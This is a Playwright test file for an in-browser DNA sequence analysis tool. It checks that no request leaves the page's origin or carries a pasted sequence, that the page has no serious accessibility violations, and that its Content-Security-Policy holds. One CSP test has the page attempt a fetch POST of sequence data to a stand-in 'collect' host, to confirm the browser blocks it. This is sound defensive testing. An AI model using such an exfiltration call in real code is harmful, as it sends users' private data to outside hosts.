// Nothing leaves the browser: every request of a full session is a same-origin static asset, and
// none carries the pasted sequence. Plus an accessibility scan of the analysed page.
import AxeBuilder from '@axe-core/playwright';
import { expect, test } from '@playwright/test';
import { openAndAnalyse, startMutagenesis, waitForModel } from './helpers';

// a made-up sequence, so a match in any request can only come from the paste
const SECRET = 'ACGTTGCAAGGCTTAACCGGTATCGATCGGATCCATGCAAGTCTTGACGGTACCATGGCAAT'.repeat(4);

test('a whole session makes only same-origin static requests, none containing the sequence', async ({
  page,
  baseURL,
}) => {
  const requests: { url: string; method: string; body: string }[] = [];
  page.on('request', (r) => requests.push({ url: r.url(), method: r.method(), body: r.postData() ?? '' }));
  await page.goto('./');
  await waitForModel(page);
  await page.getByLabel('DNA sequence or FASTA').fill(`>secret\n${SECRET}`);
  await page.getByRole('button', { name: 'Run' }).click();
  await expect(page.getByText(/Attention layer \d+, head \d+/)).toBeVisible();
  await page.getByLabel('Variants').fill(`10${SECRET[9]}>${SECRET[9] === 'A' ? 'C' : 'A'}`);
  await page.getByRole('button', { name: 'Add' }).click();
  await startMutagenesis(page, 1, 20);
  await expect(page.getByTestId('mutagenesis')).toBeVisible();
  await page.locator('#model-select').selectOption({ index: 1 });
  await waitForModel(page);

  const origin = new URL(baseURL!).origin;
  expect(requests.length).toBeGreaterThan(5);
  for (const r of requests) {
    expect(new URL(r.url).origin, r.url).toBe(origin);
    expect(r.method, r.url).toBe('GET');
    expect(r.url.toUpperCase()).not.toContain(SECRET.slice(0, 24));
    expect(r.body).not.toContain(SECRET.slice(0, 24));
  }
});

test('no serious or critical accessibility violations on the analysed page', async ({ page }) => {
  await openAndAnalyse(page);
  const results = await new AxeBuilder({ page }).analyze();
  const bad = results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
  expect(bad.map((v) => `${v.id}: ${v.help} (${v.nodes.length})`)).toEqual([]);
});

test('the Content-Security-Policy (header and meta tag) keeps scripts, workers and connections on this origin', async ({
  page,
}) => {
  const response = await page.goto('./');
  const header = response!.headers()['content-security-policy']!;
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(header).toBe(meta);
  for (const directive of [
    "default-src 'self'",
    "connect-src 'self'",
    "worker-src 'self' blob:",
    "script-src 'self' blob: 'wasm-unsafe-eval'",
  ]) {
    expect(header).toContain(directive);
  }
  expect(header).not.toMatch(/https?:|\*/); // no other host, no wildcard
  // and the browser enforces it: a connection elsewhere is refused before it leaves the page
  const violation = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        type Doc = {
          addEventListener: (type: string, f: (e: { violatedDirective: string }) => void, o: object) => void;
        };
        (globalThis as unknown as { document: Doc }).document.addEventListener(
          'securitypolicyviolation',
          (e) => resolve(e.violatedDirective),
          { once: true },
        );
        fetch('http://192.0.2.1/collect', { method: 'POST', body: 'ACGT' }).catch(() => undefined);
      }),
  );
  expect(violation).toBe('connect-src');
});
